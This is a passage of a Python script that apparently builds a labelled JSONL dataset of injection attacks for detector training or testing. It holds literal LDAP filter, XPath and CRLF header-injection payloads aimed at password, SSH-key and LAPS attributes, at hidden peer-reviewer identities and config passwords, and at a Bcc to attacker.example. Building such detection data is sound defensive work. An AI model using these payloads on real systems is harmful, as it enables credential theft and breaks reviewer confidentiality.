    forged = ["INFO decision=ACCEPT manuscript=JCS-2024-%04d", "Bcc: leak%d@attacker.example", "Set-Cookie: sid=fixed%d", "[AUDIT] sample=S%d APPROVED"]

    def gen():
        f = pick(forged) % RNG.randint(1, 999)
        return pick(["submission-field", "lims-field", "job-name"]) + "-crlf-forgery", "%s%s%s" % (pick(["ok", "S12", "md_equil", "Reviewer 1"]), pick(["\r\n", "\n", "%0d%0a", "%0a"]), f)
    return take("crlf", lit, gen, 30)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("reviewer-invite-ldap-lookup-or-password", "*)(|(userPassword=*"),
        ("institutional-user-lookup-hpc-admin-group", "ktanaka)(|(memberOf=cn=hpc-admins,ou=groups,dc=uni,dc=example,dc=edu)"),
        ("orcid-to-uid-lookup-wildcard", "0000-0002*)(uid=*"),
        ("reviewer-lookup-eduperson-affiliation-staff", "*)(eduPersonAffiliation=staff"),
        ("hpc-account-lookup-eduperson-entitlement", "*)(eduPersonEntitlement=urn:mace:uni.example.edu:hpc:admin"),
        ("hpc-account-lookup-ssh-keys", "*)(|(sshPublicKey=*"),
        ("hpc-account-lookup-root-gid", "*)(gidNumber=0"),
        ("lab-member-search-null-truncation+null-byte", "lmuller*))%00"),
        ("reviewer-search-url-encoded+urlenc", q("*)(|(mail=*@uni.example.edu")),
        ("staff-search-german-wildcard", "Müller*)(|(telephoneNumber=*"),
        ("lims-ad-lookup-laps-password", "*)(|(ms-Mcs-AdmPwd=*"),
        ("jats-search-xpath-reveal-reviewers", "x' or //contrib[@contrib-type='reviewer']/name/surname or 'a'='b"),
        ("jats-search-xpath-union-peer-review", "'] | //sub-article[@article-type='reviewer-report']//* | //article-title['"),
        ("jats-search-xpath-blind-reviewer-email", "x' or substring(//custom-meta[meta-name='reviewer-email']/meta-value,1,1)='a' or 'a'='b"),
        ("jats-search-xpath-count-contribs", "' or count(//contrib[@contrib-type='reviewer'])>1 or '"),
        ("lims-config-xml-xpath-root-name", "x' or name(/*[1])='lims-config' or 'a'='b"),
        ("lims-config-xml-xpath-password-node", "'] | //datasource/password | //sample['"),
        ("datacite-xml-xpath-tautology", "10.5281/zenodo.412' or '1'='1"),
        ("plain-ldap-star-close", "*)(uid=*))(|(uid=*"),
        ("plain-xpath-or-true", "' or true() or '"),
    ]

    def gen():
        u = pick(["admin", "root", "hpcadmin", "ktanaka", "curator"])
        return "reviewer-invite-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdefgh0123456789") for _ in range(RNG.randint(1, 4))))
    return take("ldap-xpath", lit, gen, 22)


CATEGORIES = [
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("sqli", sqli),
    ("nosqli", nosqli),
    ("xss", xss),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha23-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d  (literals %d)" % ("total", len(rows), sum(LITERAL_COUNTS.values())))


if __name__ == "__main__":
    main()
